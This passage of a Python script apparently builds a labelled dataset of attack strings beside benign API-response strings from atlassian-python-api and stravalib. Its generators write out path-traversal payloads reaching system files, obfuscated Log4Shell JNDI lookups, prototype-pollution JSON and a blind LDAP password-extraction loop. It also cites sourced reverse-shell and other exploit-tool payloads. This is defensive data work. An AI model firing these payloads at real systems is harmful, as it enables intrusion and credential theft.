        trav = pattern * (4 + k % 4)
        out.append(trav + _slash_encoding(_FILES[k % len(_FILES)], trav))
    for k, mid in enumerate(["../", "..\\"]):
        for j, suffix in enumerate(_SUFFIXES):
            fname = _FILES[(k * 5 + j) % len(_FILES)]
            out.append(mid * (5 + j) + _slash_encoding(fname, mid) + suffix)
    out += ["///" + "../" * 6 + "etc/passwd", "\\\\\\" + "..\\" * 6 + "boot.ini"]
    return [("traversal", _received(v)) for v in out]


# --- log4shell pattern generator ----------------------------------------------------------------------------------


def _log4shell_generator() -> list[tuple[str, str]]:
    rng = random.Random(17)
    address = "127.0.0.1:1389/test"
    out = [("jndi", "${jndi:" + proto + "://" + address + "}") for proto in ("ldap", "ldaps", "rmi")]
    parts = ["${lower:*}", "${upper:*}", "*"]
    for proto in ("ldap", "ldaps", "rmi", "ldap", "rmi", "ldaps"):
        target = "jndi:" + proto + "://" + address
        out.append(("jndi", "${" + "".join(rng.choice(parts).replace("*", c) for c in target) + "}"))
    return out


# --- prototype pollution scanner ----------------------------------------------------------------------------------

_CANARY = "f1e3f7a9"


def _sspp() -> list[tuple[str, str]]:
    techniques = [
        ("json spaces", '" "', '""'),
        ("head", "true", "false"),
        ("status", "510", "0"),
        ("exposedHeaders", f'["{_CANARY}"]', "null"),
    ]
    out: list[str] = []
    for name, attack, nullify in techniques:
        for value in (attack, nullify):
            out.append('{"name":"Alice","__proto__":{"' + name + '":' + value + "}}")
            out.append('{"name":"Alice","__proto__.' + name + '":' + value + "}")
    return [("proto", v) for v in out]


def _ldap_loop() -> list[tuple[str, str]]:
    out = []
    password = "secret"
    for n in range(len(password)):
        out.append(("ldapi", f"bob)(userPassword={password[:n]}{password[n]}*"))
    out.append(("ldapi", "bob)(userPassword=q*"))
    return out


BUILT = [
    (
        "vladko312/SSTImap",
        "plugins/python/jinja2.py, tornado.py, mako.py; plugins/php/twig.py, smarty.py; "
        "plugins/java/freemarker.py, velocity.py, spring_el.py; plugins/ruby/erb.py; plugins/javascript/ejs.py, "
        "nunjucks.py (commits per file in the index: 16755bcb, 07631d60, 272a782f, 2fc128ba, 923057be)",
        "07631d60f96db2102ef9fb4520344a2bcf7126b7",
        "GPL-3.0 (project licence); payload strings only, no code",
        _sstimap,
    ),
    (
        "vladko312/SSTImap",
        "core/bash.py reverse_shell and bind_shell",
        "1ac873e129e0d342d0ea813e916e8e14687dc11b",
        "GPL-3.0 (project licence); payload strings only, no code",
        _shells,
    ),
    (
        "codingo/NoSQLMap",
        "nsmweb.py buildUri and getDBInfo",
        "0628784b1e928f3c3d78e20eeee36516c9eafe32",
        "GPL-3.0 (project licence, doc/COPYING not in the index); payload strings only, no code",
        _nosqlmap,
    ),
    (
        "tarunkant/Gopherus",
        "scripts/Redis.py, SMTP.py, Zabbix.py, PyMemcached.py",
        "095e9049e2434b5d2cc2fa73ddbcd93afcace766",
        "MIT (LICENSE: 'MIT License Copyright (c) 2018 Tarunkant Gupta')",
        _gopherus,
    ),
    (
        "enjoiz/XXEinjector",
        "XXEinjector.rb ($dtd, $xsl, the --xml direct document, --hashes, --expect, --upload, --phpfilter targets)",
        "031280f4cec225f5b725a1f5e168491d72489a1c",
        "no licence file in the index; payload strings used as test data only, attributed",
        _xxeinjector,
    ),
    (
        "wireghoul/dotdotpwn",
        "DotDotPwn/TraversalEngine.pm",
        "14a308763702d2ad6babb3578d15fec506b1adc9",
        "GPL (dotdotpwn's licence; no licence file in the index); payload strings only, no code",
        _dotdotpwn,
    ),
    (
        "yuudai-g/Log4ShellAttackPatternsGenerator",
        "src/main/java/org/yuudai/PlainPatternsGenerator.java, UpperLowerObfuscator.java",
        "000b18cedc14af5908cd1924e66393e18aa2cf4e",
        "no licence file in the index; generated strings used as test data only, attributed",
        _log4shell_generator,
    ),
    (
        "hackvertor/server-side-prototype-pollution",
        "src/burp/PrototypePollutionBodyScan.java (jsonTechniques), "
        "PrototypePollutionBodyDotScan.java (jsonTechniquesDot)",
        "008ec8a001b46938052a70a36e5e0944bec33e06",
        "Apache-2.0 (LICENSE: 'Copyright 2023 PortSwigger Web Security')",
        _sspp,
    ),
    (
        "RajChowdhury240/LDAP-Injection",
        "attack.sh (blind userPassword prefix loop)",
        "1d14a142aed1cef6f162510856884c2b4397e55a",
        "no licence file in the index; the loop's filter strings used as test data only, attributed",
        _ldap_loop,
    ),
]

LEFT_OUT = [
    {
        "repository": "codingo/NoSQLMap",
        "left_out": "param[$ne]=<random>, param[$gt]= (uriArray 1 and 8), the POST neDict/gtDict forms",
        "why": "operators in a parameter name with a harmless value; this corpus places values",
    },
    {
        "repository": "tarunkant/Gopherus",
        "left_out": "MySQL, PostgreSQL, FastCGI, PHPMemcached and RbMemcached",
        "why": "binary protocol packets built from user answers; the Redis, SMTP, Zabbix and memcached links give the "
        "gopher shapes",
    },
    {
        "repository": "vladko312/SSTImap",
        "left_out": "write/read/md5 actions, generic and legacy plugins, Cheetah, "
        "Pug, Dust, doT, Marko, Slim, Twig v1/filter, Smarty unsecure, OGNL",
        "why": "the eleven engines give the render, error, evaluate and execute shapes; the rest repeat them",
    },
    {
        "repository": "hackvertor/server-side-prototype-pollution",
        "left_out": "ConstructorParamScan 'constructor' / 'constxructor', async and JS-property scans",
        "why": "a bare property name is not an attack on its own; the other scans were not read",
    },
    {
        "repository": "wireghoul/dotdotpwn",
        "left_out": "8 of every 9 dots x slashes patterns, depths other than the "
        "one taken per pattern, the 512-fold prefix patterns",
        "why": "a sample of the engine's encodings (aim 300-600 payloads); the 512-fold prefixes are 1-2 KB of dots",
    },
]


def _records() -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
    sources, dropped = read_records(HERE / "records.txt", _decode)
    for repo, files, commit, licence, make in BUILT:
        sources.append({"repository": repo, "files": files, "commit": commit, "licence": licence, "values": make()})
    return sources, dropped + LEFT_OUT


# --- benign: atlassian-python-api responses and stravalib resources ------------------------------------------------


def _keep(text: str) -> bool:
    return len(text) <= 4000 and "localhost" not in text


def _shape(text: str) -> str:
    if text.startswith(("http://", "https://")):
        return "urls"
    if " " in text and len(text) > 25:
        return "prose"
    if " " in text or (any(ch.isalpha() for ch in text) and not any(ch.isdigit() for ch in text)):
        return "names"
    return "codes"


def _walk(node: Any, found: dict[str, list[dict[str, str]]], seen: set[str], where: str) -> None:
    if isinstance(node, dict):
        for key, val in node.items():
            _walk(val, found, seen, f"{where}: {key}" if isinstance(val, str) else where)
    elif isinstance(node, list):
        for val in node:
            _walk(val, found, seen, where)
    elif isinstance(node, str):
        text = node.strip()
        if text and text not in seen and _keep(text):
            seen.add(text)
            found[_shape(text)].append({"value": text, "source": where})


def _values(docs: list[tuple[str, Any]], prefix: str) -> dict[str, list[dict[str, str]]]:
    found: dict[str, list[dict[str, str]]] = {"names": [], "prose": [], "urls": [], "codes": []}
    seen: set[str] = set()
    for rel, doc in docs:
        _walk(doc, found, seen, rel)
    return {f"{prefix}_{cat}": even(vals, CAP) for cat, vals in found.items() if vals}


def _atlassian(root: Path) -> dict[str, list[dict[str, str]]]:
    docs: list[tuple[str, Any]] = []
    for path in sorted(glob.glob(str(root / "tests/responses/**/*"), recursive=True)):
        if os.path.isdir(path):
            continue
        rel = os.path.relpath(path, root)
        for node in ast.parse(Path(path).read_text(encoding="utf-8")).body:
            if isinstance(node, ast.Assign):
                try:
                    docs.append((f"{ATL} {rel}", ast.literal_eval(node.value)))
                except ValueError:
                    continue
    return _values(docs, "at")


def _strava(root: Path) -> dict[str, list[dict[str, str]]]:
    docs = [
        (f"{STRAVA} {os.path.relpath(p, root)}", json.loads(Path(p).read_text()))
        for p in sorted(glob.glob(str(root / "src/stravalib/tests/resources/*.json")))
        if not p.endswith("strava_swagger.json")
    ]
    return _values(docs, "st")


def extract(atlassian: Path, stravalib: Path) -> None:
    sources, dropped = _records()
    attacks, repeats = first_seen(HERE, sources)
    benign = {**_atlassian(atlassian), **_strava(stravalib)}
    write_values(
        HERE,
        SPLIT,
        attacks,
        benign,
        attack_meta(sources, HOW_READ, dropped, repeats, attacks),
        {
            "atlassian": {
                "package": f"{ATL} (PyPI sdist), tests/responses/**: recorded Jira, Bitbucket and Jira Service "
                "Management answers (Python literals)",
                "licence": "Apache-2.0 (PKG-INFO 'License: Apache-2.0', LICENSE)",
            },
            "strava": {
                "package": f"{STRAVA} (PyPI sdist), src/stravalib/tests/resources/*.json except strava_swagger.json: "
                "recorded Strava API answers",
                "licence": "Apache-2.0 (PKG-INFO 'License-Expression: Apache-2.0', LICENSE.txt)",
            },
            "what": "every unique string (first occurrence, at most 4,000 characters) sorted by shape into names, "
            f"prose, urls and codes, at most {CAP} per category at an even stride",
            "counts": {cat: len(v) for cat, v in benign.items()},
        },
    )


# --- corpus -------------------------------------------------------------------------------------------------------


def build() -> list[dict[str, Any]]:
    return build_values_only(HERE, SPLIT)


if __name__ == "__main__":
    main(HERE, sys.argv[1:], extract, build)
